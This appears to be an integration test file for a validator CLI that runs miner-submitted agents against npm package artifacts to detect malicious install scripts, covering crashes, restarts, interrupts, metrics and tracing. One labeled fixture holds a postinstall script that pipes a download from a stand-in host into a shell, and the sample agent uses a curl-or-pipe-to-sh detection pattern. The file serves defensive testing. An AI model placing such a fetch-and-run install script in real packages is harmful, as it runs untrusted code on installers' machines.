/**
 * `vigil validator run` (packages/cli) against a real server: a round in evaluation with real
 * agent bundles (Node agents a miner submitted) and real .tgz artifacts; the loop claims, downloads,
 * runs each agent in the sandbox, signs and submits in batches. Also: an agent that crashes, a
 * server restart mid-run, and Ctrl-C mid-run (the built `vigil` as a process).
 */
import { spawn } from 'node:child_process';
import { createServer, request as httpRequest, type Server as HttpServer } from 'node:http';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { existsSync } from 'node:fs';
import { run, type Io } from '@vigil/cli';
import { SignedVigilClient, keypairFromSeed, type VigilKeypair } from '@vigil/client';
import { AGENT_BUNDLE_FORMAT, MinerAgent, ValidatorRegistration, type AgentBundle, type MetagraphSnapshot } from '@vigil/core';
import { attestationDsseEnvelope, toHex, verifyAttestationDsse } from '@vigil/crypto';
import pg from 'pg';
import { context, ProxyTracer, ProxyTracerProvider, SpanKind, trace, type Tracer } from '@opentelemetry/api';
import { AsyncLocalStorageContextManager } from '@opentelemetry/context-async-hooks';
import { BasicTracerProvider, InMemorySpanExporter, SimpleSpanProcessor } from '@opentelemetry/sdk-trace-base';
import { afterAll, afterEach, describe, expect, it, vi } from 'vitest';
import { openDatabase, type VigilDatabase } from '../src/platform/db/database.js';
import { migrateToLatest } from '../src/platform/db/migrate.js';
import { advanceRounds, type SchedulerSettings } from '../src/features/network/rounds/scheduler/index.js';
import { tarGz } from '../src/features/artifacts/archive/tar-gz.js';
import { storeArtifact } from '../src/features/artifacts/store-artifact.js';
import { withSearchPath } from '../src/test-support/databases.js';
import { sendDelivery } from '../src/features/webhooks/dispatch/send-delivery.js';
import { activeTracer } from '../src/platform/tracing/index.js';
import { startNetworkApp, type NetworkApp } from '../src/test-support/network-app.js';

const VALIDATOR = keypairFromSeed('f1'.repeat(32));
const MINERS = { good: keypairFromSeed('f2'.repeat(32)), crash: keypairFromSeed('f3'.repeat(32)), slow: keypairFromSeed('f4'.repeat(32)) };

const SNAPSHOT: MetagraphSnapshot = { netuid: 76, block: 1, taken_at: '2026-12-01T00:00:00Z', neurons: [{ uid: 1, hotkey: VALIDATOR.hotkey, validator_permit: true }] };

const SETTINGS: SchedulerSettings = {
  submissionMs: 1_000,
  evaluationMs: 3_600_000,
  gapMs: 3_600_000,
  intervalMs: 1_000,
  policyVersion: 'validator-run-1',
  labeledArtifacts: 2,
  liveArtifacts: 1,
};

/** A real agent: flags a package whose install scripts fetch or pipe into a shell. */
const SCANNER = `
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
const input = JSON.parse(readFileSync(0, 'utf8'));
const text = readFileSync(join(input.artifact.dir, 'package.json'), 'utf8');
const bad = /curl|\\| *sh/.test(text);
const line = text.split('\\n').findIndex((l) => /curl|\\| *sh/.test(l)) + 1;
await new Promise((resolve) => setTimeout(resolve, DELAY));
process.stdout.write(JSON.stringify({
  verdict: bad ? 'BLOCK' : 'ALLOW',
  risk_score: bad ? 90 : 2,
  findings: bad ? [{ type: 'static', category: 'install_script', severity: 'CRIT', title: 'install script pipes a download into a shell', file: 'package.json', line, evidence: 'curl | sh' }] : [],
}));
`;

const agentBundle = (code: string): AgentBundle => ({ format: AGENT_BUNDLE_FORMAT, entrypoint: 'agent.mjs', files: [{ path: 'agent.mjs', content_base64: Buffer.from(code).toString('base64') }] });

const ARTIFACTS = [
  { sourceId: 'evil-installer', kind: 'labeled', truth: 'BLOCK', manifest: { name: 'evil-installer', version: '1.0.0', scripts: { postinstall: 'curl -s https://x.example/i.sh | sh' } } },
  { sourceId: 'left-pad', kind: 'labeled', truth: 'ALLOW', manifest: { name: 'left-pad', version: '1.3.0', main: 'index.js' } },
  { sourceId: 'is-even', kind: 'live', manifest: { name: 'is-even', version: '1.0.0' } },
] as const;

interface Server {
  e: NetworkApp;
  database: VigilDatabase;
  dir: string;
  port: number;
  restart(): Promise<void>;
}

const cleanups: Array<() => Promise<void>> = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

const POSTGRES_URL = process.env.TEST_DATABASE_URL ?? '';
if (POSTGRES_URL === '') console.warn('SKIPPED: vigil validator run on PostgreSQL (TEST_DATABASE_URL not set)');

/** A fresh migrated database: in-memory SQLite, or a schema of its own on the test PostgreSQL. */
async function freshDatabase(dialect: 'sqlite' | 'postgres'): Promise<{ database: VigilDatabase; drop: () => Promise<void> }> {
  if (dialect === 'sqlite') {
    const database = await openDatabase({ url: ':memory:' });
    await migrateToLatest(database.db);
    return { database, drop: () => database.close() };
  }
  const schema = `vigil_run_${Math.random().toString(16).slice(2, 14)}`;
  const admin = async (query: string) => {
    const client = new pg.Client({ connectionString: POSTGRES_URL });
    await client.connect();
    try {
      await client.query(query);
    } finally {
      await client.end();
    }
  };
  await admin(`CREATE SCHEMA ${schema}`);
  const database = await openDatabase({ url: withSearchPath(POSTGRES_URL, schema) });
  await migrateToLatest(database.db);
  return {
    database,
    drop: async () => {
      await database.close();
      await admin(`DROP SCHEMA IF EXISTS ${schema} CASCADE`);
    },
  };
}

/** A server with one `packages` round in evaluation whose agents are the given miners' bundles. */
async function serverWithRound(agents: Array<{ miner: VigilKeypair; code: string }>, dialect: 'sqlite' | 'postgres' = 'sqlite'): Promise<Server> {
  const dir = await mkdtemp(join(tmpdir(), 'vigil-validator-run-'));
  const { database, drop } = await freshDatabase(dialect);
  const server: Server = {
    dir,
    database,
    port: 0,
    e: await startNetworkApp({ snapshot: SNAPSHOT, database, dir }),
    async restart() {
      await server.e.app.close();
      server.e = await startNetworkApp({ snapshot: SNAPSHOT, database, dir, port: server.port });
    },
  };
  server.port = Number(new URL(server.e.baseUrl).port);
  cleanups.push(async () => {
    await server.e.close();
    await drop();
    await rm(dir, { recursive: true, force: true });
  });
  for (const a of ARTIFACTS) {
    await storeArtifact(database.db, server.e.blobs, {
      track: 'packages',
      label: a.kind === 'labeled' ? 'bench' : 'live',
      sourceId: a.sourceId,
      ...(a.kind === 'labeled' ? { kind: 'labeled' as const, groundTruth: a.truth } : { kind: 'live' as const }),
      bytes: tarGz([
        { path: 'package/package.json', content: `${JSON.stringify(a.manifest, null, 2)}\n` },
        { path: 'package/index.js', content: 'module.exports = 1;\n' },
      ]),
      now: Date.now(),
    });
  }
  await advanceRounds(database.db, { now: Date.now(), settings: SETTINGS });
  for (const { miner, code } of agents) {
    const client = new SignedVigilClient({ baseUrl: server.e.baseUrl, keypair: miner });
    await client.request('POST', '/v1/miners/registrations', { track: 'packages' });
    await client.request('POST', '/v1/miners/agents', { track: 'packages', name: `agent-${miner.hotkey.slice(0, 6)}`, provider: 'none', bundle: agentBundle(code) }, { schema: MinerAgent });
  }
  const transitions = await advanceRounds(database.db, { now: Date.now() + SETTINGS.submissionMs + 1_000, settings: SETTINGS });
  expect(transitions.map((t) => `${t.track}:${t.action}`)).toContain('packages:evaluation_started');
  const validator = new SignedVigilClient({ baseUrl: server.e.baseUrl, keypair: VALIDATOR });
  await validator.request('POST', '/v1/validators/registration', { allowed_ips: ['127.0.0.1'] }, { schema: ValidatorRegistration });
  return server;
}

async function keyfile(dir: string): Promise<string> {
  const path = join(dir, 'validator.json');
  const publicKey = `0x${toHex(VALIDATOR.publicKey)}`;
  await writeFile(path, JSON.stringify({ accountId: publicKey, publicKey, privateKey: null, secretPhrase: null, secretSeed: `0x${'f1'.repeat(32)}`, ss58Address: VALIDATOR.hotkey }), { mode: 0o600 });
  return path;
}

type Event = Record<string, unknown> & { event: string };

/** Runs `vigil … validator run --json …` in this process; `onEvent` sees each event as it is printed. */
async function validatorRun(server: Server, args: string[], onEvent: (event: Event) => void = () => {}, baseUrl = server.e.baseUrl): Promise<{ code: number; events: Event[]; stderr: string }> {
  const events: Event[] = [];
  let stderr = '';
  let buffered = '';
  const io: Io = {
    stdout: (text) => {
      buffered += text;
      const lines = buffered.split('\n');
      buffered = lines.pop() ?? '';
      for (const line of lines) {
        const event = JSON.parse(line) as Event;
        events.push(event);
        onEvent(event);
      }
    },
    stderr: (text) => {
      stderr += text;
    },
    env: {},
    home: server.dir,
  };
  const code = await run(['--base-url', baseUrl, '--json', 'validator', 'run', '--keyfile', await keyfile(server.dir), '--work-dir', join(server.dir, 'work'), ...args], io);
  return { code, events, stderr };
}

async function attestations(server: Server) {
  return server.database.db.selectFrom('attestations').selectAll().execute();
}

async function leaseStates(server: Server): Promise<string[]> {
  return (await server.database.db.selectFrom('task_leases').select('state').execute()).map((r) => r.state).sort();
}

describe.each([
  ['SQLite', 'sqlite'],
  ...(POSTGRES_URL === '' ? [] : [['PostgreSQL', 'postgres']]),
] as Array<[string, 'sqlite' | 'postgres']>)('vigil validator run [%s]', (_name, dialect) => {
  it('runs every task of the round and the server records each attestation; a crashing agent releases its leases', async () => {
    const server = await serverWithRound(
      [
        { miner: MINERS.good, code: SCANNER.replace('DELAY', '0') },
        { miner: MINERS.crash, code: "throw new Error('agent bug: cannot parse the manifest');\n" },
      ],
      dialect,
    );
    const { code, events, stderr } = await validatorRun(server, ['--exit-when-idle', '--poll-interval', '1', '--concurrency', '3', '--batch-size', '2']);
    expect(code, stderr).toBe(0);

    const done = events.filter((e) => e.event === 'task_done');
    const failed = events.filter((e) => e.event === 'task_failed');
    expect(done).toHaveLength(3);
    expect(failed).toHaveLength(3);
    expect(failed.every((e) => e.failure_reason === 'crashed: exit 1' && e.released === true && String(e.detail).includes('agent bug'))).toBe(true);
    expect(events.at(-1)).toMatchObject({ event: 'summary', claimed: 6, attested: 3, duplicate: 0, refused: 0, failed: 3, unsent: 0 });

    const rows = await attestations(server);
    expect(rows).toHaveLength(3);
    const verdicts = rows.map((r) => r.verdict).sort();
    expect(verdicts).toEqual(['ALLOW', 'ALLOW', 'BLOCK']);
    expect(new Set(rows.map((r) => r.validator_hotkey))).toEqual(new Set([VALIDATOR.hotkey]));
    // Every attestation came with the validator's DSSE signature of its in-toto statement, verified and kept.
    for (const row of rows) {
      expect(row.dsse_signature).toMatch(/^[0-9a-f]{128}$/);
      expect(verifyAttestationDsse(attestationDsseEnvelope(JSON.parse(row.payload), row.dsse_signature!))).toMatchObject({ ok: true, canonical_hash: row.canonical_hash });
    }
    // Batches of at most 2: never more envelopes in one submission.
    const batches = events.filter((e) => e.event === 'batch_submitted');
    expect(batches.every((b) => (b.attestations as number) <= 2)).toBe(true);
    expect(batches.reduce((n, b) => n + (b.created as number), 0)).toBe(3);
    expect(await leaseStates(server)).toEqual(['completed', 'completed', 'completed', 'failed', 'failed', 'failed']);
  }, 120_000);
});

describe('vigil validator run', () => {
  it('survives a server restart mid-run: waits, resubmits, and finishes', async () => {
    const server = await serverWithRound([{ miner: MINERS.slow, code: SCANNER.replace('DELAY', '500') }]);
    let restarted: Promise<void> | null = null;
    const { code, events, stderr } = await validatorRun(server, ['--exit-when-idle', '--poll-interval', '1', '--concurrency', '1'], (event) => {
      if (event.event === 'task_done' && restarted === null) {
        // Down for three seconds, longer than a task (0.5 s): results wait to be sent, claims fail.
        restarted = (async () => {
          await server.e.app.close();
          await new Promise((resolve) => setTimeout(resolve, 3_000));
          await server.restart();
        })();
      }
    });
    await restarted;
    expect(code, stderr).toBe(0);
    expect(events.some((e) => e.event === 'server_unreachable')).toBe(true);
    expect(events.filter((e) => e.event === 'task_done')).toHaveLength(3);
    expect(await attestations(server)).toHaveLength(3);
    expect(events.at(-1)).toMatchObject({ event: 'summary', claimed: 3, failed: 0, unsent: 0 });
  }, 120_000);
});

/**
 * A proxy in front of the server that lets the first attestation batch through to the server and
 * then cuts the connection instead of relaying the answer: the batch is recorded, the answer lost.
 */
async function losingFirstBatchAnswer(target: string): Promise<{ url: string; lost: () => number; close: () => Promise<void> }> {
  let lost = 0;
  const proxy: HttpServer = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      const upstream = httpRequest(`${target}${req.url ?? '/'}`, { method: req.method, headers: req.headers }, (answer) => {
        const body: Buffer[] = [];
        answer.on('data', (chunk: Buffer) => body.push(chunk));
        answer.on('end', () => {
          if (req.url === '/v1/validators/attestations/batch' && lost === 0) {
            lost += 1;
            req.socket.destroy();
            return;
          }
          res.writeHead(answer.statusCode ?? 502, answer.headers);
          res.end(Buffer.concat(body));
        });
      });
      upstream.on('error', () => req.socket.destroy());
      upstream.end(Buffer.concat(chunks));
    });
  });
  await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
  const address = proxy.address() as { port: number };
  return { url: `http://127.0.0.1:${address.port}`, lost: () => lost, close: () => new Promise((resolve) => proxy.close(() => resolve())) };
}

describe('vigil validator run, an answer lost', () => {
  it('sends the same batch again and the server answers duplicate for what it had recorded', async () => {
    const server = await serverWithRound([{ miner: MINERS.good, code: SCANNER.replace('DELAY', '0') }]);
    const proxy = await losingFirstBatchAnswer(server.e.baseUrl);
    cleanups.push(proxy.close);
    const { code, events, stderr } = await validatorRun(server, ['--exit-when-idle', '--poll-interval', '1', '--concurrency', '3', '--batch-size', '3'], () => {}, proxy.url);
    expect(code, stderr).toBe(0);
    expect(proxy.lost()).toBe(1);
    expect(events.some((e) => e.event === 'server_unreachable' && e.during === 'attestation batch')).toBe(true);
    const batches = events.filter((e) => e.event === 'batch_submitted');
    // The first answer that arrived is the resent batch: everything in it was already recorded.
    expect(batches[0]).toMatchObject({ created: 0, refused: 0 });
    expect(batches[0]!.duplicate).toBe(batches[0]!.attestations);
    expect(await attestations(server)).toHaveLength(3);
    expect(events.at(-1)).toMatchObject({ event: 'summary', claimed: 3, unsent: 0, refused: 0 });
  }, 120_000);
});

const require = createRequire(import.meta.url);
const CLI_BIN = join(dirname(require.resolve('@vigil/cli/package.json')), 'dist', 'bin.js');

describe.skipIf(!existsSync(CLI_BIN))('vigil validator run, stopped with Ctrl-C', () => {
  it('stops claiming, releases what it aborts, sends every signed result in whole batches and exits 0', async () => {
    // All three tasks run at once; the one on left-pad takes 30 s, so it is running at the signal.
    const server = await serverWithRound([{ miner: MINERS.slow, code: SCANNER.replace('DELAY', "text.includes('left-pad') ? 30000 : 0") }]);
    const child = spawn(
      process.execPath,
      [CLI_BIN, '--base-url', server.e.baseUrl, '--json', 'validator', 'run', '--keyfile', await keyfile(server.dir), '--work-dir', join(server.dir, 'work'), '--concurrency', '3', '--grace', '0', '--poll-interval', '1'],
      { env: { PATH: process.env.PATH ?? '', HOME: server.dir }, stdio: ['ignore', 'pipe', 'pipe'] },
    );
    const events: Event[] = [];
    let stderr = '';
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    let buffered = '';
    let interrupted = false;
    child.stdout.on('data', (chunk: Buffer) => {
      buffered += chunk.toString();
      const lines = buffered.split('\n');
      buffered = lines.pop() ?? '';
      for (const line of lines) {
        const event = JSON.parse(line) as Event;
        events.push(event);
        if (event.event === 'task_done' && !interrupted) {
          interrupted = true;
          child.kill('SIGINT');
        }
      }
    });
    const code = await new Promise<number | null>((resolve) => child.on('exit', (c) => resolve(c)));
    expect(code, stderr).toBe(0);
    expect(events.some((e) => e.event === 'stopping')).toBe(true);
    const summary = events.at(-1)!;
    expect(summary).toMatchObject({ event: 'summary', unsent: 0 });
    const done = events.filter((e) => e.event === 'task_done').map((e) => e.task_id);
    const failed = events.filter((e) => e.event === 'task_failed');
    // What was running at the signal (at least the 30 s run) was aborted (no grace) and released.
    expect(failed.length).toBeGreaterThanOrEqual(1);
    expect(failed.every((e) => e.failure_reason === 'aborted' && e.released === true)).toBe(true);
    // Every signed result reached the server, each batch whole: the server holds exactly those.
    const rows = await attestations(server);
    expect(rows.map((r) => r.task_id).sort()).toEqual([...done].sort());
    const created = events.filter((e) => e.event === 'batch_submitted').reduce((n, b) => n + (b.created as number), 0);
    expect(created).toBe(rows.length);
    const states = await leaseStates(server);
    expect(states.filter((s) => s === 'completed')).toHaveLength(rows.length);
    expect(states.filter((s) => s === 'failed')).toHaveLength(failed.length);
    expect(done.length + failed.length).toBe(3);
    expect(summary.claimed).toBe(3);
  }, 120_000);

  it('quits at once on a second Ctrl-C (exit 130), leaving the unfinished leases to expire', async () => {
    const server = await serverWithRound([{ miner: MINERS.slow, code: SCANNER.replace('DELAY', '20000') }]);
    const child = spawn(
      process.execPath,
      [CLI_BIN, '--base-url', server.e.baseUrl, '--json', 'validator', 'run', '--keyfile', await keyfile(server.dir), '--work-dir', join(server.dir, 'work'), '--concurrency', '2', '--grace', '600'],
      { env: { PATH: process.env.PATH ?? '', HOME: server.dir }, stdio: ['ignore', 'pipe', 'pipe'] },
    );
    const seen: string[] = [];
    child.stdout.on('data', (chunk: Buffer) => {
      for (const line of chunk.toString().split('\n').filter(Boolean)) {
        const event = (JSON.parse(line) as Event).event;
        seen.push(event);
        if (event === 'claimed') setTimeout(() => child.kill('SIGINT'), 500);
        if (event === 'stopping') child.kill('SIGINT');
      }
    });
    // Without the second signal it would wait for the agents' 20 s (grace 600 s): past this test's timeout.
    const code = await new Promise<number | null>((resolve) => child.on('exit', (c) => resolve(c)));
    expect(code).toBe(130);
    expect(seen).toContain('stopping');
    expect(seen.at(-1)).toBe('summary');
    expect(await attestations(server)).toHaveLength(0);
    // Not released: still held until LEASE_MS runs out.
    expect((await leaseStates(server)).every((state) => state === 'leased' || state === 'running')).toBe(true);
  }, 60_000);

  it('--metrics-port serves Prometheus metrics: claims, sandbox runs by outcome and duration, failures by reason, attestations, process metrics', async () => {
    const server = await serverWithRound([
      { miner: MINERS.good, code: SCANNER.replace('DELAY', '0') },
      { miner: MINERS.crash, code: "throw new Error('agent bug: cannot parse the manifest');\n" },
    ]);
    const child = spawn(
      process.execPath,
      [CLI_BIN, '--base-url', server.e.baseUrl, '--json', 'validator', 'run', '--keyfile', await keyfile(server.dir), '--work-dir', join(server.dir, 'work'), '--concurrency', '3', '--poll-interval', '1', '--metrics-port', '0'],
      { env: { PATH: process.env.PATH ?? '', HOME: server.dir }, stdio: ['ignore', 'pipe', 'pipe'] },
    );
    cleanups.push(async () => void child.kill('SIGKILL'));
    let stderr = '';
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    const events: Event[] = [];
    let buffered = '';
    child.stdout.on('data', (chunk: Buffer) => {
      buffered += chunk.toString();
      const lines = buffered.split('\n');
      buffered = lines.pop() ?? '';
      for (const line of lines) events.push(JSON.parse(line) as Event);
    });
    const exited = new Promise<number | null>((resolve) => child.on('exit', (c) => resolve(c)));
    const settled = () =>
      events.filter((e) => e.event === 'task_failed').length === 3 && events.filter((e) => e.event === 'batch_submitted').reduce((n, b) => n + (b.created as number), 0) === 3;
    for (const started = Date.now(); !settled(); ) {
      if (Date.now() - started > 90_000 || child.exitCode !== null) throw new Error(`the validator did not finish its tasks: ${stderr}`);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    const url = /vigil: validator metrics on (http:\/\/127\.0\.0\.1:\d+\/metrics)/.exec(stderr)?.[1];
    expect(url, stderr).toBeDefined();
    const scrape = await fetch(url!);
    expect(scrape.status).toBe(200);
    expect(scrape.headers.get('content-type')).toMatch(/^text\/plain; version=0\.0\.4/);
    const text = await scrape.text();
    const value = (series: string) => {
      const line = text.split('\n').find((l) => l.startsWith(`${series} `));
      return line === undefined ? undefined : Number(line.slice(series.length + 1));
    };
    expect(value('vigil_validator_tasks_claimed_total{track="packages"}')).toBe(6);
    expect(value('vigil_validator_sandbox_runs_total{track="packages",outcome="ok"}')).toBe(3);
    expect(value('vigil_validator_sandbox_runs_total{track="packages",outcome="crashed"}')).toBe(3);
    expect(value('vigil_validator_sandbox_run_duration_seconds_count{track="packages",result="ok"}')).toBe(3);
    expect(value('vigil_validator_sandbox_run_duration_seconds_count{track="packages",result="failed"}')).toBe(3);
    expect(value('vigil_validator_sandbox_run_duration_seconds_sum{track="packages",result="ok"}')).toBeGreaterThan(0);
    expect(value('vigil_validator_tasks_failed_total{track="packages",reason="crashed"}')).toBe(3);
    expect(value('vigil_validator_attestations_total{outcome="created"}')).toBe(3);
    expect(value('vigil_validator_attestations_total{outcome="duplicate"}')).toBe(0);
    expect(value('vigil_validator_attestations_total{outcome="refused"}')).toBe(0);
    expect(value('process_cpu_seconds_total')).toBeGreaterThan(0);
    expect(text).toContain('nodejs_eventloop_lag_seconds');
    expect((await fetch(url!.replace(/\/metrics$/, '/other'))).status).toBe(404);
    const post = await fetch(url!, { method: 'POST' });
    expect([post.status, post.headers.get('allow')]).toEqual([405, 'GET, HEAD']);

    child.kill('SIGINT');
    expect(await exited, stderr).toBe(0);
    // The listener closed with the command.
    await expect(fetch(url!)).rejects.toThrow();
  }, 120_000);

  it('refuses a metrics host that is not an IP address, or one without a port, as usage errors', async () => {
    const cases: [string[], Record<string, string>, RegExp][] = [
      [['--metrics-host', '127.0.0.1'], {}, /--metrics-host: only with --metrics-port \(or VIGIL_VALIDATOR_METRICS_PORT\)/],
      [['--metrics-port', '0', '--metrics-host', 'localhost'], {}, /--metrics-host: expected an IP address, got "localhost"/],
      [['--metrics-port', '70000'], {}, /--metrics-port: expected an integer from 0 to 65535, got "70000"/],
      [[], { VIGIL_VALIDATOR_METRICS_PORT: 'x' }, /VIGIL_VALIDATOR_METRICS_PORT: expected an integer from 0 to 65535, got "x"/],
    ];
    for (const [args, env, message] of cases) {
      let stderr = '';
      const io: Io = { stdout: () => {}, stderr: (t) => (stderr += t), env, home: tmpdir() };
      const code = await run(['--base-url', 'http://127.0.0.1:9', 'validator', 'run', '--keyfile', '/nonexistent/validator.json', ...args], io);
      expect([code, stderr]).toEqual([2, expect.stringMatching(message)]);
    }
  });
});

/**
 * OpenTelemetry tracing (docs/operations.md, "Tracing"): with no tracer provider registered,
 * nothing is created; with one (an SDK's BasicTracerProvider and the AsyncLocalStorage context
 * manager, as a preloaded Node SDK registers them), the server's spans: a SERVER span per request
 * with its request id, the attestation ingest transaction as its child, outbound webhook attempts.
 */
describe('tracing', () => {
  const exporter = new InMemorySpanExporter();
  afterAll(() => {
    trace.disable();
    context.disable();
  });

  it('with no tracer provider registered, the server creates no span and registers no hook', async () => {
    // Both tracers the API hands out while no SDK is registered: its proxy, and the no-op behind it.
    const noopTracer = Object.getPrototypeOf(new ProxyTracerProvider().getDelegate().getTracer('probe')) as Tracer;
    const spies = [vi.spyOn(ProxyTracer.prototype, 'startSpan'), vi.spyOn(ProxyTracer.prototype, 'startActiveSpan'), vi.spyOn(noopTracer, 'startSpan'), vi.spyOn(noopTracer, 'startActiveSpan')];
    try {
      expect(activeTracer()).toBeNull();
      const server = await serverWithRound([{ miner: MINERS.good, code: SCANNER.replace('DELAY', '0') }]);
      expect(server.e.app.hasPlugin('vigil-tracing')).toBe(false);
      const { code, stderr } = await validatorRun(server, ['--exit-when-idle', '--poll-interval', '1', '--concurrency', '3']);
      expect(code, stderr).toBe(0);
      expect(await attestations(server)).toHaveLength(3);
      for (const spy of spies) expect(spy).not.toHaveBeenCalled();
    } finally {
      for (const spy of spies) spy.mockRestore();
    }
  }, 120_000);

  it('with a provider registered: request spans with their request ids, the ingest transaction as a child, webhook attempts', async () => {
    expect(context.setGlobalContextManager(new AsyncLocalStorageContextManager().enable())).toBe(true);
    expect(trace.setGlobalTracerProvider(new BasicTracerProvider({ spanProcessors: [new SimpleSpanProcessor(exporter)] }))).toBe(true);
    expect(activeTracer()).not.toBeNull();
    const server = await serverWithRound([{ miner: MINERS.good, code: SCANNER.replace('DELAY', '0') }]);
    expect(server.e.app.hasPlugin('vigil-tracing')).toBe(true);
    const { code, stderr } = await validatorRun(server, ['--exit-when-idle', '--poll-interval', '1', '--concurrency', '3']);
    expect(code, stderr).toBe(0);

    const spans = exporter.getFinishedSpans();
    const requests = spans.filter((s) => s.kind === SpanKind.SERVER);
    const batches = requests.filter((s) => s.name === 'POST /v1/validators/attestations/batch');
    expect(batches.length).toBeGreaterThan(0);
    for (const b of batches) {
      expect(b.attributes).toMatchObject({ 'http.request.method': 'POST', 'http.route': '/v1/validators/attestations/batch', 'url.path': '/v1/validators/attestations/batch', 'http.response.status_code': 200 });
      expect(b.attributes['vigil.request_id']).toEqual(expect.any(String));
    }
    // Each ingest transaction is a child of the request that carried the batch.
    const ingests = spans.filter((s) => s.name === 'vigil.attestations.record_batch');
    expect(ingests.map((s) => s.attributes['vigil.attestations.envelopes']).reduce((a, b) => Number(a) + Number(b), 0)).toBe(3);
    for (const ingest of ingests) {
      const parent = batches.find((b) => b.spanContext().spanId === ingest.parentSpanContext?.spanId);
      expect(parent, 'the ingest span has the batch request as its parent').toBeDefined();
      expect(ingest.spanContext().traceId).toBe(parent!.spanContext().traceId);
    }
    // A request's span carries the id its response names in x-request-id; a 404 is `unmatched`.
    const answer = await fetch(`${server.e.baseUrl}/v1/no-such-route?token=secret`);
    const id = answer.headers.get('x-request-id');
    const unmatched = exporter.getFinishedSpans().find((s) => s.attributes['vigil.request_id'] === id);
    expect(unmatched).toMatchObject({ name: 'GET unmatched', attributes: { 'http.route': 'unmatched', 'url.path': '/v1/no-such-route', 'http.response.status_code': 404 } });

    // An outbound webhook attempt is a CLIENT span: host and port, never the path or query.
    const receiver = createServer((_req, res) => res.writeHead(204).end());
    await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
    cleanups.push(() => new Promise((resolve) => receiver.close(() => resolve())));
    const port = (receiver.address() as { port: number }).port;
    const outcome = await sendDelivery({ url: `http://127.0.0.1:${port}/hook/s3cret?t=1`, body: Buffer.from('{}'), headers: { 'content-type': 'application/json' }, timeoutMs: 5_000, allowPrivate: true, resolver: async () => [] });
    expect(outcome.status).toBe(204);
    const hook = exporter.getFinishedSpans().find((s) => s.name === 'webhook POST');
    expect(hook).toMatchObject({ kind: SpanKind.CLIENT, attributes: { 'http.request.method': 'POST', 'server.address': '127.0.0.1', 'server.port': port, 'http.response.status_code': 204 } });
    expect(JSON.stringify(hook!.attributes)).not.toContain('s3cret');
  }, 120_000);
});
